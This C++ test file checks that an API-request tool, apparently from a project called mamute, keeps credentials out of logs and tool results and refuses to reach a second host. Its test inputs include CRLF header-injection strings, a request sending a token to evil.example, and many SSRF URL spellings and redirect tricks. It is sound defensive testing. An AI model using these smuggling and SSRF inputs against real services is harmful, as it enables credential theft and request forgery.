// The caller's API key goes to the spec's own servers and nowhere else: never into a log line, never back
// into a tool result, never to another host however the arguments or the API's redirects point there.
#include <spdlog/sinks/ostream_sink.h>

#include <boost/json/serialize.hpp>
#include <catch2/catch.hpp>
#include <algorithm>
#include <sstream>

#include "../toolset/live_upstream.hpp"
#include "../toolset/schema_check.hpp"
#include "common/log.hpp"

namespace json = boost::json;
using namespace mamute;
using namespace mamute::testing::live;

namespace {

const std::string api_key = "mk_live_SECRET123456";
const std::string token = "tok_SECRET654321";

toolset::CallContext with_credentials() {
    toolset::CallContext context;
    context.credentials = {{"X-API-Key", api_key}, {"Authorization", "Bearer " + token}};
    context.request_id = "safety-1";
    return context;
}

bool leaks(const std::string& text) {
    return text.find(api_key) != std::string::npos || text.find(token) != std::string::npos;
}

// Every mamute logger (and any created later) at trace level, writing into a string as well; the console
// sinks are muted meanwhile. Restores levels and sinks when it goes.
class LogCapture {
public:
    LogCapture() {
        for (const auto* component : {"app", "http", "mcp", "upstream", "stdio", "toolset", "catalog", "transport"})
            log::get(component);
        global_level_ = spdlog::get_level();
        spdlog::apply_all([&](const std::shared_ptr<spdlog::logger>& logger) {
            loggers_.push_back({logger, logger->level(), {}});
            for (auto& sink : logger->sinks()) {
                loggers_.back().sink_levels.push_back(sink->level());
                sink->set_level(spdlog::level::off);
            }
            logger->sinks().push_back(sink_);
        });
        spdlog::set_level(spdlog::level::trace);
    }
    ~LogCapture() {
        for (auto& saved : loggers_) {
            auto& sinks = saved.logger->sinks();
            sinks.erase(std::remove(sinks.begin(), sinks.end(), sink_), sinks.end());
            for (std::size_t i = 0; i < sinks.size() && i < saved.sink_levels.size(); ++i) sinks[i]->set_level(saved.sink_levels[i]);
        }
        spdlog::set_level(global_level_);
        for (auto& saved : loggers_) saved.logger->set_level(saved.level);
    }
    // Loggers created after the capture started, which it does not see (add their component above).
    std::vector<std::string> uncaptured() const {
        std::vector<std::string> names;
        spdlog::apply_all([&](const std::shared_ptr<spdlog::logger>& logger) {
            const auto& sinks = logger->sinks();
            if (std::find(sinks.begin(), sinks.end(), sink_) == sinks.end()) names.push_back(logger->name());
        });
        return names;
    }
    std::string text() {
        for (auto& saved : loggers_) saved.logger->flush();
        return out_.str();
    }

private:
    struct Saved {
        std::shared_ptr<spdlog::logger> logger;
        spdlog::level::level_enum level;
        std::vector<spdlog::level::level_enum> sink_levels;
    };
    std::ostringstream out_;
    std::shared_ptr<spdlog::sinks::ostream_sink_mt> sink_ = std::make_shared<spdlog::sinks::ostream_sink_mt>(out_);
    spdlog::level::level_enum global_level_ = spdlog::level::info;
    std::vector<Saved> loggers_;
};

config::UpstreamConfig safety_config() {
    config::UpstreamConfig config;
    config.connect_timeout = std::chrono::milliseconds(1000);
    config.tls_timeout = std::chrono::milliseconds(1000);
    config.total_timeout = std::chrono::milliseconds(1000);
    return config;
}

// An API that misbehaves with keys: it echoes them in its body and headers, and rejects some calls.
std::string careless_api(const Seen& request) {
    const std::string key(request["X-API-Key"]);
    const std::string authorization(request[boost::beast::http::field::authorization]);
    const auto target = std::string(request.target());
    if (target.starts_with("/cdn/resource/unauthorized"))
        return response_bytes(401, "Unauthorized", R"({"error": "invalid key )" + key + R"("})",
                              "WWW-Authenticate: Bearer\r\nX-Request-Id: " + key + "\r\n");
    if (target.starts_with("/cdn/resource/echo-text"))
        return response_bytes(200, "OK", "you sent X-API-Key: " + key + "\nAuthorization: " + authorization, "", "text/plain");
    if (target.starts_with("/cdn/resource/echo"))
        return response_bytes(200, "OK", R"({"key": ")" + key + R"(", "auth": ")" + authorization + R"(", ")" + key + R"(": 1})",
                              "X-Request-Id: " + key + "\r\nETag: \"" + authorization + "\"\r\nX-RateLimit-Key: " + key +
                                  "\r\nLocation: https://elsewhere.example/?t=" + key + "\r\n");
    return response_bytes(200, "OK", R"({"ok": true})", "X-Request-Id: r-1\r\n");
}

}  // namespace

TEST_CASE("safety: credentials never reach a log line or a tool result", "[safety]") {
    Rig rig(safety_config());
    Listener api(rig.io);
    api.respond = careless_api;
    api.start();
    Listener silent(rig.io);
    silent.act = Act::silent;
    silent.start();
    const auto refused_url = "http://127.0.0.1:" + std::to_string(closed_port(rig.io));
    const auto context = with_credentials();

    LogCapture capture;
    struct Call {
        std::string base_url;
        std::string args;
        bool error;
    };
    const std::vector<Call> calls = {
        {api.url(), R"({"method":"GET","path":"/cdn/resource/ok"})", false},
        {api.url(), R"({"method":"GET","path":"/cdn/resource/unauthorized"})", true},
        {api.url(), R"({"method":"GET","path":"/cdn/resource/echo"})", false},
        {api.url(), R"({"method":"GET","path":"/cdn/resource/echo-text"})", false},
        // The agent puts the key in places it does not belong; it is sent where asked but never shown back.
        {api.url(), R"({"method":"GET","path":"/cdn/resource","query":{"q":")" + api_key + R"("}})", false},
        {api.url(), R"({"harRequest":{"method":"GET","url":")" + api.url() + R"(/cdn/resource/echo",
            "headers":[{"name":"X-API-Key","value":")" + api_key + R"("},{"name":"Authorization","value":"Bearer )" + token + R"("}]}})",
         false},
        // Refused before sending.
        {api.url(), R"({"method":"GET","path":"/nope/)" + api_key + R"("})", true},
        {api.url(), R"({"method":"GET","path":"/cdn/resource","query":{")" + api_key + R"(":"x"}})", true},
        {api.url(), R"({"method":"GET","path":"/cdn/resource","headers":{"X-Evil":"a\r\nX-API-Key: )" + api_key + R"("}})", true},
        {api.url(), R"({"method":"GET","path":"/cdn/resource","headers":{"X-Evil":"a\r\nAuthorization: Bearer )" + token + R"("}})", true},
        {api.url(), R"({")" + api_key + R"(":1,"method":"GET","path":"/cdn/resource"})", true},
        {api.url(), R"({"title":")" + token + R"(","method":"GET","path":"/cdn/resource"})", true},
        {api.url(), R"({"harRequest":{"method":"GET","url":"https://)" + api_key + R"(@api.mamutecloud.com/cdn/resource"}})", true},
        {api.url(), R"({"harRequest":{"method":"GET","url":"https://evil.example/)" + token + R"("}})", true},
        // Transport failures.
        {refused_url, R"({"method":"GET","path":"/cdn/resource/ok"})", true},
        {silent.url(), R"({"method":"GET","path":"/cdn/resource/ok"})", true},
    };
    for (const auto& call : calls) {
        INFO(call.args);
        const auto result = rig.call(call.base_url, call.args, context);
        CHECK(result.is_error == call.error);
        const auto wire = json::serialize(result.to_json());
        INFO(wire);
        CHECK_FALSE(leaks(wire));
    }
    // The calls were real: the key went to the API, which echoed it.
    REQUIRE(api.seen.size() == 6);
    for (const auto& seen : api.seen) {
        CHECK(seen["X-API-Key"] == api_key);
        CHECK(seen[boost::beast::http::field::authorization] == "Bearer " + token);
    }
    CHECK(silent.seen.size() == 1);

    CHECK(capture.uncaptured().empty());
    const auto logged = capture.text();
    INFO(logged);
    CHECK_FALSE(leaks(logged));
    // The capture works: each kind of call left its line.
    CHECK_THAT(logged, Catch::Contains("[safety-1] GET " + api.url() + " /cdn/resource/{id} -> 200"));
    CHECK_THAT(logged, Catch::Contains("/cdn/resource/{id} -> 401"));
    CHECK_THAT(logged, Catch::Contains("[safety-1] execute-request not sent: invalid arguments"));
    CHECK_THAT(logged, Catch::Contains("failed (connect)"));
    CHECK_THAT(logged, Catch::Contains("failed (timeout)"));
}

TEST_CASE("safety: no argument and no redirect reaches a second host", "[safety]") {
    Rig rig(safety_config());
    Listener trap(rig.io);
    trap.act = Act::close;
    trap.start();
    Listener api(rig.io);
    const auto up = std::to_string(api.port());
    const auto tp = std::to_string(trap.port());
    const auto trap_origin = "http://127.0.0.1:" + tp;
    api.respond = [&](const Seen& request) {
        const auto target = std::string(request.target());
        auto redirect = [](unsigned status, const std::string& location) {
            return response_bytes(status, "Redirect", "", "Location: " + location + "\r\n");
        };
        if (target == "/cdn/resource/r1") return redirect(302, trap_origin + "/x");
        if (target == "/cdn/resource/r2") return redirect(307, "//127.0.0.1:" + tp + "/x");
        if (target == "/cdn/resource/r3") return redirect(301, "http://localhost:" + tp + "/x");
        if (target == "/cdn/resource/r4") return redirect(303, "http://127.0.0.1:" + up + "@127.0.0.1:" + tp + "/x");
        if (target == "/cdn/resource/r5") return redirect(308, "/\\127.0.0.1:" + tp + "/x");
        if (target == "/cdn/resource/r6") return redirect(302, "/cdn/resource/r1");  // same origin, then away
        if (target == "/cdn/resource/r7") return redirect(302, "http://[::ffff:127.0.0.1]:" + tp + "/x");
        return response_bytes(200, "OK", R"({"ok": true})");
    };
    api.start();
    const auto context = with_credentials();

    auto har = [](const std::string& url, const std::string& headers = "[]") {
        return R"({"harRequest":{"method":"GET","url":")" + url + R"(","headers":)" + headers + "}}";
    };
    const std::vector<std::string> arguments = {
        har(trap_origin + "/cdn/resource"),
        har("HTTP://127.0.0.1:" + tp + "/cdn/resource"),
        har("http://localhost:" + tp + "/cdn/resource"),
        har("http://2130706433:" + tp + "/cdn/resource"),
        har("http://[::ffff:127.0.0.1]:" + tp + "/cdn/resource"),
        har("http://127.0.0.1:" + up + "@127.0.0.1:" + tp + "/cdn/resource"),
        har("https://api@127.0.0.1:" + tp + "/cdn/resource"),
        har("http://127.0.0.1:" + up + "\\\\@127.0.0.1:" + tp + "/cdn/resource"),
        har("http://127.0.0.1:" + tp + "#@127.0.0.1:" + up + "/cdn/resource"),
        har("http://127.0.0.1:" + tp + "?@127.0.0.1:" + up + "/cdn/resource"),
        har(api.url() + "/cdn/resource", R"([{"name":"Host","value":"127.0.0.1:)" + tp + R"("}])"),
        R"({"method":"GET","path":"//127.0.0.1:)" + tp + R"(/cdn/resource"})",
        R"({"method":"GET","path":"http://127.0.0.1:)" + tp + R"(/cdn/resource"})",
        R"({"method":"GET","path":"@127.0.0.1:)" + tp + R"(/cdn/resource"})",
        R"({"method":"GET","path":"/cdn/resource/{id}","pathParams":{"id":"@127.0.0.1:)" + tp + R"("}})",
        R"({"method":"GET","path":"/cdn/resource/{id}","pathParams":{"id":"/../..//127.0.0.1:)" + tp + R"(/"}})",
        R"({"method":"GET","path":"/cdn/resource","server":{"url":")" + trap_origin + R"("}})",
        R"({"method":"GET","path":"/cdn/resource","headers":{"Host":"127.0.0.1:)" + tp + R"("}})",
        R"({"method":"GET","path":"/cdn/resource/r1"})",
        R"({"method":"GET","path":"/cdn/resource/r2"})",
        R"({"method":"GET","path":"/cdn/resource/r3"})",
        R"({"method":"GET","path":"/cdn/resource/r4"})",
        R"({"method":"GET","path":"/cdn/resource/r5"})",
        R"({"method":"GET","path":"/cdn/resource/r6"})",
        R"({"method":"GET","path":"/cdn/resource/r7"})",
    };
    std::size_t sent = 0;
    for (const auto& args : arguments) {
        INFO(args);
        const auto result = rig.call(api.url(), args, context);
        INFO(json::serialize(result.to_json()));
        CHECK_FALSE(leaks(json::serialize(result.to_json())));
        if (!result.structured_content) continue;  // refused (or failed): nothing more to see
        ++sent;
        const auto out = testing::structured_ok(toolset::execute_request_definition(), result, result.is_error);
        // Whatever was sent went to the API's origin.
        CHECK_THAT(std::string(out.at("request").as_string()), Catch::StartsWith("GET " + api.url() + "/"));
        if (const auto* note = out.if_contains("note"))
            CHECK_THAT(std::string(note->as_string()), !Catch::Contains("limit was reached"));
    }
    // The same-origin hop is followed; the one after it, to the trap, is not.
    const auto chained = testing::structured_ok(toolset::execute_request_definition(),
                                                rig.call(api.url(), R"({"method":"GET","path":"/cdn/resource/r6"})", context));
    CHECK(chained.at("status") == 302);
    CHECK(chained.contains("redirects"));
    if (chained.contains("redirects")) CHECK(chained.at("redirects") == json::array{"302 -> /cdn/resource/r1"});
    CHECK(chained.at("note").as_string() == "redirect to " + trap_origin + "/x was not followed: it leaves " + api.url() +
                                                " (only same-origin redirects are followed; call it yourself if it is "
                                                "one of the spec's servers)");
    CHECK(sent >= 9);  // the redirect calls and the harmless spellings reached the API
    for (const auto& seen : api.seen) CHECK(seen[boost::beast::http::field::host] == "127.0.0.1:" + up);

    // Nothing ever connected to the trap: not accepted during the calls, nor waiting in its queue now.
    CHECK(trap.connections() == 0);
    // And the count is real: a connection made now is seen.
    tcp::socket probe(rig.io);
    probe.connect(trap.acceptor.local_endpoint());
    CHECK(trap.connections() == 1);
}
